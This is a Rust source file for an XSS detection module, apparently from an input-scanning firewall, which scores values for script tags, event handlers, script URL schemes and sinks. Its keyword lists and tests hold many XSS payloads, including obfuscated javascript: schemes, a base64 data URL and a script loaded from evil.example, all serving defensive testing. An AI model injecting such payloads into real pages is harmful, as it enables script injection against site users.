//! Cross-site scripting: markup and script a browser would run if the value were echoed
//! into a page.
//!
//! The scanner looks for what makes markup executable rather than for payload strings:
//! script elements, event-handler attributes inside a tag (or injected after a broken
//! attribute quote), script-bearing URL schemes (browsers ignore tabs and newlines inside a
//! scheme, so the scanner does too), HTML data URLs, elements that load or run content,
//! CSS expressions, and (at level 2) calls of script sinks. It runs on the decoded forms of
//! a value (see [`crate::decode`]). Each `<` looks at most [`TAG_WINDOW`] bytes ahead, so the
//! time is linear in the input.

use crate::sql::Hit;

/// How far past a `<` the attributes of a tag are looked at.
pub const TAG_WINDOW: usize = 512;

/// The active tags that load a resource, a document or code, or change how the page is
/// read, through their attributes.
const LOADING_TAGS: &[&str] = &[
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta", "link", "style",
    "form", "isindex", "portal", "svg", "math", "animate", "set", "xss", "keygen", "marquee",
];

/// Elements that run or load active content.
const ACTIVE_TAGS: &[&str] = &[
    "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base", "meta",
    "link", "style", "form", "isindex", "xss", "template", "portal", "animate", "set", "image",
    "video", "audio", "source", "img", "body", "input", "details", "marquee", "button", "textarea",
    "select", "keygen", "a", "div", "script",
];

/// DOM event names, for handlers injected outside a tag (after a broken quote).
const EVENTS: &[&str] = &[
    "load",
    "error",
    "click",
    "dblclick",
    "mouseover",
    "mouseout",
    "mouseenter",
    "mouseleave",
    "mousedown",
    "mouseup",
    "mousemove",
    "focus",
    "blur",
    "focusin",
    "focusout",
    "change",
    "input",
    "submit",
    "reset",
    "keydown",
    "keyup",
    "keypress",
    "toggle",
    "animationstart",
    "animationend",
    "animationiteration",
    "transitionend",
    "begin",
    "end",
    "pointerover",
    "pointerdown",
    "pointerup",
    "pointerenter",
    "wheel",
    "scroll",
    "resize",
    "message",
    "pageshow",
    "hashchange",
    "beforeunload",
    "unload",
    "copy",
    "paste",
    "cut",
    "drag",
    "dragstart",
    "drop",
    "search",
    "select",
    "invalid",
    "auxclick",
    "contextmenu",
    "play",
    "playing",
    "canplay",
    "loadstart",
    "loadeddata",
    "readystatechange",
    "beforeprint",
    "afterprint",
    "popstate",
    "storage",
    "online",
    "offline",
    "show",
    "start",
    "finish",
];

/// Calls and properties scripts use to do harm (level 2: they also appear in code samples).
const SINKS: &[&str] = &[
    "alert(",
    "prompt(",
    "confirm(",
    "eval(",
    "document.cookie",
    "document.domain",
    "document.write",
    "window.location",
    "location.href",
    "fromcharcode(",
    "atob(",
    "settimeout(",
    "setinterval(",
    "import(",
    "fetch(",
    ".innerhtml",
    "constructor(",
];

/// The XSS rules `value` matches, each once with its score. `level` 2 adds the script
/// sinks.
pub fn inspect(value: &str, level: u8) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    let bytes = lower.as_bytes();
    let mut hits: Vec<Hit> = Vec::new();
    let mut hit = |rule: &'static str, score: u32| crate::sql::add(&mut hits, Hit { rule, score });

    // Tags: `<name` (or `</name`) with a name, and what their attributes hold.
    let mut i = 0;
    while let Some(p) = lower[i..].find('<') {
        let at = i + p;
        i = at + 1;
        let mut j = at + 1;
        if bytes.get(j) == Some(&b'/') {
            j += 1;
        }
        let name_len = bytes[j..]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-' || **b == b':')
            .count();
        if name_len == 0 || !bytes[j].is_ascii_alphabetic() {
            continue;
        }
        let name = &lower[j..j + name_len];
        let after_name = bytes.get(j + name_len).copied();
        // A tag name ends at whitespace, `/`, `>` or the end of the value (old parsers also
        // ended it at other control characters).
        let is_tag = matches!(
            after_name,
            None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'>' | b'\x0b' | b'\0')
        );
        if !is_tag {
            continue;
        }
        if name == "script" {
            hit("xss.script_tag", 5);
        } else if ACTIVE_TAGS.contains(&name) && name.len() > 1 {
            hit("xss.active_tag", 3);
        }
        let window_end = (j + name_len + TAG_WINDOW).min(bytes.len());
        let attrs_end = lower[j + name_len..window_end]
            .find('>')
            .map_or(window_end, |p| j + name_len + p);
        let attrs = &lower[j + name_len..attrs_end];
        // Level 2: a tag that loads or runs something, with attributes (`<embed src=`,
        // `<meta http-equiv=`, `<form action=`), or a namespaced one (`<v:vmlframe`,
        // `<x:script`). Links, images and text markup are everyday HTML.
        let attributed = attrs.contains('=');
        if level >= 2 && (LOADING_TAGS.contains(&name) && attributed || name.contains(':')) {
            hit("xss.markup", 5);
        }
        if has_handler(attrs, Handler::InTag) {
            hit("xss.event_handler", 5);
        }
        if [
            "srcdoc",
            "formaction",
            "xlink:href",
            "dynsrc",
            "lowsrc",
            "background",
        ]
        .iter()
        .any(|a| attribute_set(attrs, a))
        {
            hit("xss.active_attribute", 4);
        }
    }

    // A handler injected after breaking out of an attribute: `" onmouseover=...`.
    let assigns = memchr::memchr(b'=', bytes).is_some();
    if assigns && has_handler(&lower, Handler::Injected) {
        hit("xss.event_handler", 5);
    } else if level >= 2 && assigns && has_handler(&lower, Handler::Loose) {
        hit("xss.handler_attribute", 5);
    }

    // Script-bearing URL schemes, with the blanks browsers skip taken out. Schemes and
    // `data:` end in `:`.
    let squeezed: String = if memchr::memchr(b':', bytes).is_some() {
        lower
            .chars()
            .filter(|c| !matches!(c, '\t' | '\n' | '\r' | '\0'))
            .collect()
    } else {
        String::new()
    };
    for scheme in ["javascript:", "vbscript:", "livescript:"] {
        if let Some(p) = squeezed.find(scheme) {
            // Blanks (or references to them) inside the scheme's name are there only to
            // hide it: `ja&Tab;vascript:`, `v&NewLine;bscript:`.
            if !lower.contains(scheme) {
                hit("xss.script_url", 5);
                continue;
            }
            let before = squeezed[..p].trim_end();
            let starts = before.is_empty()
                || before.ends_with(['=', '"', '\'', '(', '`'])
                || before.ends_with("url");
            // What follows must read as code, not prose ("JavaScript: the basics"): a
            // call, an assignment, a comment, a string or an escape within a short reach.
            let after: String = squeezed[p + scheme.len()..].chars().take(64).collect();
            let code = after.contains(['(', '`', '=', '[', '/', '\'', '"', '%', '\\', ';', '{']);
            if code {
                hit("xss.script_url", if starts { 5 } else { 3 });
            }
        }
    }
    if squeezed.contains("data:text/html") || squeezed.contains("data:image/svg+xml") {
        hit("xss.data_html", 4);
    }
    if memchr::memchr3(b'(', b'-', b':', bytes).is_some()
        && (lower.contains("expression(") && (lower.contains("style") || lower.contains(':'))
            || lower.contains("-moz-binding")
            || lower.contains("behavior:"))
    {
        // In markup (a tag or a style attribute) it runs; in prose it is a mention.
        let markup = lower.contains('<') || lower.contains("style");
        hit("xss.css_expression", if markup { 5 } else { 4 });
    }
    if level >= 2 {
        // `alert?.(x)` and `document?.cookie` are the same calls; `document["cookie"]` the
        // same property.
        let plain = lower
            .replace("?.(", "(")
            .replace("?.", ".")
            .replace("[\"", ".")
            .replace("['", ".");
        let sinks: Vec<&&str> = SINKS.iter().filter(|s| plain.contains(**s)).collect();
        if !sinks.is_empty() {
            // A call or a cookie read blocks at this level; a mention alone scores.
            let called = sinks
                .iter()
                .any(|s| s.ends_with('(') || s.starts_with("document."));
            hit("xss.script_sink", if called { 5 } else { 3 });
        }
    }
    hits
}

/// Where [`has_handler`] looks.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Handler {
    /// Inside a tag: any `on<word>=` after a separator.
    InTag,
    /// Outside one: known DOM events after a quote or slash, or after a blank that
    /// follows a quote.
    Injected,
    /// Outside one, at level 2: any `on<word>=` after a blank, quote or slash (`  onload=`,
    /// `"onzoom=`), not at the very start of the value (`online=1`), the word a known
    /// event or four letters or more (`the onion = layers` is not one).
    Loose,
}

/// `on<event>` followed by `=` after a separator, as `mode` says.
fn has_handler(text: &str, mode: Handler) -> bool {
    let injected = mode != Handler::InTag;
    let bytes = text.as_bytes();
    let first_quote = text.find(['"', '\'']);
    let mut from = 0;
    while let Some(p) = text[from..].find("on") {
        let at = from + p;
        from = at + 2;
        let before = if at == 0 { None } else { Some(bytes[at - 1]) };
        let separated = match before {
            None => !injected,
            Some(b) => {
                matches!(
                    b,
                    b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'"' | b'\'' | b'`'
                ) || (!injected && b == b';')
            }
        };
        if !separated {
            continue;
        }
        let name_len = bytes[at + 2..]
            .iter()
            .take_while(|b| b.is_ascii_alphabetic())
            .count();
        if name_len < 3 {
            continue;
        }
        let name = &text[at + 2..at + 2 + name_len];
        let mut k = at + 2 + name_len;
        while bytes.get(k).is_some_and(|b| b.is_ascii_whitespace()) {
            k += 1;
        }
        if bytes.get(k) != Some(&b'=') {
            continue;
        }
        if !injected
            || (mode == Handler::Loose
                && before.is_some()
                && (name.len() >= 4 || EVENTS.contains(&name)))
            || (matches!(before, Some(b'"' | b'\'' | b'`' | b'/')) && EVENTS.contains(&name))
            || (before.is_some_and(|b| b.is_ascii_whitespace())
                && EVENTS.contains(&name)
                && first_quote.is_some_and(|q| q < at))
        {
            return true;
        }
    }
    false
}

/// Whether `name=` appears as an attribute in `attrs`.
fn attribute_set(attrs: &str, name: &str) -> bool {
    let bytes = attrs.as_bytes();
    let mut from = 0;
    while let Some(p) = attrs[from..].find(name) {
        let at = from + p;
        from = at + name.len();
        let separated = at == 0
            || matches!(
                bytes[at - 1],
                b' ' | b'\t' | b'\n' | b'\r' | b'/' | b'"' | b'\''
            );
        let mut k = at + name.len();
        while bytes.get(k).is_some_and(|b| b.is_ascii_whitespace()) {
            k += 1;
        }
        if separated && bytes.get(k) == Some(&b'=') {
            return true;
        }
    }
    false
}

/// The total score of `value`'s XSS hits at `level`.
pub fn score(value: &str, level: u8) -> u32 {
    inspect(value, level).iter().map(|h| h.score).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_that_a_browser_would_run_scores_high() {
        for attack in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "javascript:alert(document.cookie)",
            "java\tscript:alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<div style=\"width: expression(alert(1))\">",
            "<input autofocus onfocus=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        ] {
            assert!(
                score(attack, 1) >= 5,
                "{attack:?}: {:?}",
                inspect(attack, 1)
            );
        }
    }

    #[test]
    fn ordinary_text_scores_low() {
        for text in [
            "if a < b and c > d then",
            "I <3 rampart",
            "use the onion = layered approach",
            "Press the button on the left",
            "Details: see <https://example.com/docs>",
            "x<y>z",
            "The script was good; the acting, not so much",
            "javascript is a language",
            "JavaScript: Basics of JavaScript Language",
            "Learn vbscript: loops and arrays",
            "mailto:someone@example.com",
            "email me at a@b.c, on monday",
            "<b>bold</b> and <i>italic</i>",
            "price <= 100 && qty >= 2",
            "on=1&off=0",
            "data:image/png;base64,iVBORw0KGgo=",
        ] {
            assert!(score(text, 1) < 5, "{text:?}: {:?}", inspect(text, 1));
        }
    }

    #[test]
    fn hidden_schemes_and_level_two_markup() {
        for value in ["ja\tvascript: ", "v\nb\ts\ncript:x"] {
            assert!(score(value, 1) >= 5, "{value:?}: {:?}", inspect(value, 1));
        }
        for value in [
            "<embed src=\"deuce.swf\">",
            "<meta http-equiv=\"refresh\"",
            "<form action=\"https://x.example/\"",
            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
        ] {
            assert!(score(value, 2) >= 5, "{value:?}: {:?}", inspect(value, 2));
        }
        for value in [
            "<b>bold</b> and <i>italic</i>",
            "a <div> b",
            "x<y>z",
            "I <3 rampart",
        ] {
            assert!(score(value, 2) < 5, "{value:?}: {:?}", inspect(value, 2));
        }
    }

    #[test]
    fn loose_handlers_count_from_level_two() {
        for value in [
            "  onload= ",
            "\"onzoom=",
            "  onabcdefgh= x",
            "'onwebkitplaybacktargetavailabilitychanged=",
        ] {
            assert!(score(value, 2) >= 5, "{value:?}: {:?}", inspect(value, 2));
        }
        for value in [
            "use the onion = layered approach",
            "online=1",
            "status online",
            "on=1&off=0",
        ] {
            assert!(score(value, 2) < 5, "{value:?}: {:?}", inspect(value, 2));
        }
    }

    #[test]
    fn sinks_count_from_level_two() {
        let value = "\";alert(String.fromCharCode(88));//";
        assert!(score(value, 2) > score(value, 1));
        for value in [
            "alert?.(document?.cookie)",
            "document[\"cookie\"]",
            "eval(atob(\"YQ==\"))",
        ] {
            assert!(score(value, 2) >= 5, "{value:?}: {:?}", inspect(value, 2));
            assert!(score(value, 1) < 5, "{value:?}");
        }
    }

    #[test]
    fn time_is_linear_in_the_input() {
        for unit in ["<", "<a ", "<a on", " onx", "javascript", "<svg/"] {
            let long = unit.repeat(50_000);
            let _ = inspect(&long, 2);
        }
    }
}
